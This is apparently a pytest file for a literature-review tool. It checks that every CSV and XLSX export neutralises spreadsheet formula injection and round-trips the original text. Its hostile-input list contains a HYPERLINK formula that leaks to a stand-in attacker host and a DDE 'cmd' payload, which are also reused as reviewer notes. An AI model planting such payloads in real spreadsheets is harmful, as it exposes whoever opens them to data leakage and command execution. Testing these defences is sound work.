"""Formula injection (issue 13): no file the workbench writes for spreadsheets holds a live formula.

Every CSV writer guards text cells that start with = + - @ tab CR with a leading
quote (OWASP), every XLSX cell is a string, and reading the files back gives the
original text.  The payloads are the ones from the issue's hostile-input run.
"""
from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from reviewlib import safe_cells
from reviewlib.cli import main
from reviewlib.evidence import extraction as ex
from reviewlib.evidence import tables as ev
from reviewlib.records import conform, read_csv, write_csv
from reviewlib.screening import decisions
from reviewlib.store import ReviewStore

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak","click")',
    "=cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "+1+1",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''double",
]
BENIGN = ["CAR-T in lupus", "-1.5", "+3", "'quoted", "", "x=y", "-"]
TRIGGERS = tuple("=+-@\t\r")


def _cells_of_csv(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _live(cells) -> list[str]:
    """Cells a spreadsheet would run as a formula (a plain number is not one)."""
    return [c for c in cells if c and c[0] in TRIGGERS and safe_cells._PLAIN_NUMBER.fullmatch(c) is None]


@pytest.mark.parametrize("text", HOSTILE + BENIGN)
def test_guard_round_trips_and_never_starts_a_formula(text):
    guarded = safe_cells.guard(text)
    assert safe_cells.unguard(guarded) == text
    assert not _live([guarded])


def test_numbers_are_left_as_numbers():
    frame = pd.DataFrame({"effect": [-1.5, 2.0], "n": [-3, 4], "label": ["-1.5", "-low"]})
    out = safe_cells.guard_frame(frame)
    assert out["effect"].tolist() == [-1.5, 2.0] and out["n"].tolist() == [-3, 4]
    assert out["label"].tolist() == ["-1.5", "'-low"]


def _hostile_records() -> pd.DataFrame:
    return conform(pd.DataFrame([{"pmid": str(i + 1), "title": t, "abstract": f"abstract {i}",
                                  "authors": [t, "Smith J"], "journal": t}
                                 for i, t in enumerate(HOSTILE + BENIGN)]))


def test_records_csv_has_no_live_cell_and_reads_back_the_original(tmp_path):
    records = _hostile_records()
    path = write_csv(records, tmp_path / "records.csv")
    cells = _cells_of_csv(path)
    assert not _live(cells)
    assert "'=cmd|' /C calc'!A0" in cells
    back = read_csv(path)
    assert back["title"].fillna("").tolist() == records["title"].fillna("").tolist()
    assert back["authors"].tolist()[:2] == [[HOSTILE[0], "Smith J"], [HOSTILE[1], "Smith J"]]


def test_decisions_export_guards_notes_and_import_restores_them(tmp_path):
    src = ReviewStore(tmp_path / "laptop.sqlite")
    dst = ReviewStore(tmp_path / "main.sqlite")
    for s in (src, dst):
        s.add_records(conform(pd.DataFrame([{"pmid": str(i), "title": f"record {i}"} for i in range(1, 5)])))
    notes = ['=HYPERLINK("http://evil.example/?leak","x")', "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0"]
    for i, note in enumerate(notes, start=1):
        decisions.record_decision(src, f"pmid:{i}", "=bob", "include", note=note)
    out = tmp_path / "bob.csv"
    assert main(["decisions", "export", "--store", str(src.path), "--out", str(out)]) == 0
    assert not _live(_cells_of_csv(out))
    assert decisions.import_csv(dst, out) == 4
    cur = decisions.current_decisions(dst).sort_values("record_id")
    assert cur["note"].tolist() == notes and set(cur["reviewer"]) == {"=bob"}
    assert decisions.import_csv(dst, out) == 0  # idempotent with guarded cells too
    src.close(), dst.close()


@pytest.fixture
def hostile_store(tmp_path):
    schema = ex.load_schema("car-t-autoimmune")
    store = ReviewStore(tmp_path / "review.sqlite")
    store.add_records(conform(pd.DataFrame([
        {"pmid": "1", "title": HOSTILE[0], "abstract": "Eight patients with SLE received CD19 CAR T cells."},
        {"pmid": "2", "title": HOSTILE[1], "abstract": "A patient with myasthenia gravis received BCMA CAR-T."}])))
    ex.save(store, ex.extract(store.records(), schema), schema)
    yield store, schema
    store.close()


def test_extraction_sheet_csv_and_xlsx_hold_no_formula_and_read_back(hostile_store, tmp_path):
    store, _ = hostile_store
    csv_path = ex.export_sheet(store, tmp_path / "sheet.csv")
    assert not _live(_cells_of_csv(csv_path))
    assert set(ex.read_sheet(csv_path)["title"]) == {HOSTILE[0], HOSTILE[1]}

    xlsx = ex.export_sheet(store, tmp_path / "sheet.xlsx")
    with zipfile.ZipFile(xlsx) as z:
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml and "<f " not in xml
    wb = openpyxl.load_workbook(xlsx)
    types = {c.data_type for row in wb["extraction"].iter_rows() for c in row}
    assert "f" not in types
    assert set(ex.read_sheet(xlsx)["title"]) == {HOSTILE[0], HOSTILE[1]}


def test_evidence_tables_csv_and_xlsx_hold_no_formula(hostile_store, tmp_path):
    store, schema = hostile_store
    table = ev.study_table(ex.current_values(store), store.records(), schema)
    assert set(table["title"]) >= {HOSTILE[0], HOSTILE[1]}
    paths = ev.export_csv({"studies": table}, tmp_path / "tables")
    assert not _live(_cells_of_csv(paths[0]))
    assert set(safe_cells.read_csv(paths[0], dtype=str, keep_default_na=False)["title"]) >= {HOSTILE[0], HOSTILE[1]}
    book = ev.export_xlsx({"studies": table}, tmp_path / "tables" / "evidence-tables.xlsx")
    wb = openpyxl.load_workbook(book)
    cells = [c for row in wb["studies"].iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert {c.value for c in cells} >= {HOSTILE[0], HOSTILE[1]}
    assert all(c.quotePrefix for c in cells if c.value in (HOSTILE[0], HOSTILE[1]))


def test_cli_extract_out_has_no_live_cell(tmp_path):
    records = tmp_path / "records.csv"
    write_csv(_hostile_records(), records)
    out = tmp_path / "evidence.csv"
    assert main(["extract", "--records", str(records), "--out", str(out)]) == 0
    assert not _live(_cells_of_csv(out))
